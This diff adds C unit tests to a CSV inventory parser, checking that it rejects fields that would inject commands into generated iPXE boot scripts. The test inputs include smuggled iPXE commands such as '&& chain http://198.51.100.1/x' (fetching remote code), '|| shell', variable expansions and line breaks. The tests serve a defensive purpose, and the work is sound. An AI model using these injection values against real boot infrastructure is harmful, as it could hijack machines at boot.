@@ -346,6 +346,97 @@ static void test_bad_rows(void)
 	      "a BMC address with /0 is rejected wherever it comes from");
 }
 
+/* What iPXE would read as more than text, in every column it can reach:
+ * each row refused with its line and column, nothing handed over. */
+static const struct header_case injection_cases[] = {
+	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,fathom.mtu=9000 && chain http://198.51.100.1/x\n",
+	  "inv.csv:2: extra: \"fathom.mtu=9000 && chain http://198.51.100.1/x\": must not"
+	  " contain '&', '|' or ';': iPXE chains commands with &&, || and ;\n" },
+	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,quiet || shell\n",
+	  "inv.csv:2: extra: \"quiet || shell\": must not contain '&', '|' or ';':"
+	  " iPXE chains commands with &&, || and ;\n" },
+	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,quiet ; shell\n",
+	  "inv.csv:2: extra: \"quiet ; shell\": must not contain '&', '|' or ';':"
+	  " iPXE chains commands with &&, || and ;\n" },
+	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,x=${net0/mac}\n",
+	  "inv.csv:2: extra: \"x=${net0/mac}\": must not contain '$': iPXE expands"
+	  " ${...}\n" },
+	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,quiet #\n",
+	  "inv.csv:2: extra: \"quiet #\": must not contain '#': iPXE would read a"
+	  " comment\n" },
+	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,\"quiet\nshell\"\n",
+	  "inv.csv:2: extra: \"quiet?shell\": must not contain control characters:"
+	  " a line break would end the iPXE command\n" },
+	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,\"quiet\r\nshell\"\n",
+	  "inv.csv:2: extra: \"quiet??shell\": must not contain control characters:"
+	  " a line break would end the iPXE command\n" },
+	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,quiet \\\n",
+	  "inv.csv:2: extra: \"quiet \\\": must not contain '\\': iPXE joins a line"
+	  " ending in '\\' with the next\n" },
+	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,\"a=\"\"b c\"\"\"\n",
+	  "inv.csv:2: extra: \"a=\"b c\"\": must not contain quotes: iPXE splits"
+	  " quoted words at their blanks\n" },
+	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,x='y'\n",
+	  "inv.csv:2: extra: \"x='y'\": must not contain quotes: iPXE splits"
+	  " quoted words at their blanks\n" },
+	{ "hostname,ipv4,extra\nn1,192.0.2.1/24,caf\xc3\xa9\n",
+	  "inv.csv:2: extra: \"caf\xc3\xa9\": must be ASCII\n" },
+	{ "hostname,ipv4\nn1,192.0.2.1/24;shell\n",
+	  "inv.csv:2: ipv4: \"192.0.2.1/24;shell\": must not contain '&', '|' or"
+	  " ';': iPXE chains commands with &&, || and ;\n" },
+	{ "hostname,ipv4,ipv4_dns\nn1,192.0.2.1/24,192.0.2.53 && shell\n",
+	  "inv.csv:2: ipv4_dns: \"192.0.2.53 && shell\": must not contain '&', '|'"
+	  " or ';': iPXE chains commands with &&, || and ;\n" },
+	{ "hostname,ipv4,ipv6_dns\nn1,192.0.2.1/24,2001:db8::53;$x\n",
+	  "inv.csv:2: ipv6_dns: \"2001:db8::53;$x\": must not contain '$': iPXE"
+	  " expands ${...}\n" },
+	{ "hostname,ipv4,mac\nn1,192.0.2.1/24,52:54:00:12:34:56#\n",
+	  "inv.csv:2: mac: \"52:54:00:12:34:56#\": must not contain '#': iPXE would"
+	  " read a comment\n" },
+	{ "hostname,ipv4,drac_ipv4\nn1,192.0.2.1/24,\"192.0.2.5/24,192.0.2.1|x\"\n",
+	  "inv.csv:2: drac_ipv4: \"192.0.2.5/24,192.0.2.1|x\": must not contain '&',"
+	  " '|' or ';': iPXE chains commands with &&, || and ;\n" },
+	{ "hostname,ipv4\nn1$x,192.0.2.1/24\n",
+	  "inv.csv:2: hostname: \"n1$x\": must not contain '$': iPXE expands"
+	  " ${...}\n" },
+};
+
+static void test_injection(void)
+{
+	char text[INV_TEXT_MAX];
+	struct collect c;
+	size_t i;
+	int errors;
+
+	for (i = 0; i < sizeof(injection_cases) / sizeof(injection_cases[0]); i++) {
+		errors = parse(injection_cases[i].csv, NULL, &c);
+		CHECK(errors == 1 && c.machines == 0 &&
+		      strcmp(c.errors, injection_cases[i].message) == 0,
+		      "injection %zu refused with its line and column", i);
+		diag_unless(strcmp(c.errors, injection_cases[i].message) == 0,
+			    c.errors);
+	}
+	/* ';' separates DNS servers; it never reaches the command line. */
+	errors = parse("hostname,ipv4,ipv4_dns\nn1,192.0.2.1/24,192.0.2.53;192.0.2.54\n",
+		       NULL, &c);
+	CHECK(errors == 0 && c.machines == 1 && !strchr(c.cmdlines, ';'),
+	      "';' between DNS servers is still a separator");
+	CHECK(inv_ipxe_unsafe("console=ttyS0,115200n8 panic=10 quiet", 37) == NULL &&
+	      inv_ipxe_unsafe("a\0b", 3) != NULL, "inv_ipxe_unsafe: the boards'"
+	      " CMDLINEs pass, a NUL does not");
+	/* The renderer refuses what its callers should have: nothing written. */
+	parse("hostname,ipv4\nn1,192.0.2.1/24\n", NULL, &c);
+	CHECK(inv_boot_ipxe(&c.last, "http://x", "quiet\nshell", text,
+			    sizeof(text)) == -1 && text[0] == '\0',
+	      "boot.ipxe: a board CMDLINE with a line break is refused");
+	CHECK(inv_boot_ipxe(&c.last, "http://x/${a}", NULL, text,
+			    sizeof(text)) == -1 && text[0] == '\0',
+	      "boot.ipxe: a BASE_URL with ${ is refused");
+	strcpy(c.last.cmdline, "fathom.hostname=n1 || shell");
+	CHECK(inv_boot_ipxe(&c.last, "http://x", NULL, text, sizeof(text)) == -1 &&
+	      text[0] == '\0', "boot.ipxe: a command line with || is refused");
+}
+
 static const char ipxe_expected[] =
 	"#!ipxe\n"
 	"# Fathom netboot of n1.example.org, written by mkmachines.\n"
@@ -485,6 +576,7 @@ int main(void)
 	test_rows();
 	test_bad_rows();
 	test_boot_ipxe();
+	test_injection();
 	test_network_conf();
 	return tap_done();
 }
